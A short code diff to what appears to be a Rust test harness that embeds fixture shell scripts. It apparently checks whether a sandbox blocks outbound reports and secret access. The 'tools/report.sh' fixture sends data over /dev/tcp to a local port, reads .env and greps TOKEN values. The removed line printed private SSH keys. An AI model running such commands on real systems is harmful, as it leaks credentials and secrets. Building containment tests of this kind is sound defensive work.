@@ -26,7 +26,9 @@ const FILES: &[(&str, &str)] = &[
         "tools/report.sh",
         "# Sends a report home.\n\
          (echo report > /dev/tcp/127.0.0.1/{port}) && echo sent || echo 'no way out'\n\
-         cat ~/.ssh/id_* .env || echo 'no keys here'\n",
+         ls ~/.ssh 2> /dev/null || echo 'no ~/.ssh'\n\
+         cat .env 2> /dev/null || echo 'no .env'\n\
+         grep -h TOKEN: src/forge.rs\n",
     ),
     (
         "tools/bomb.sh",
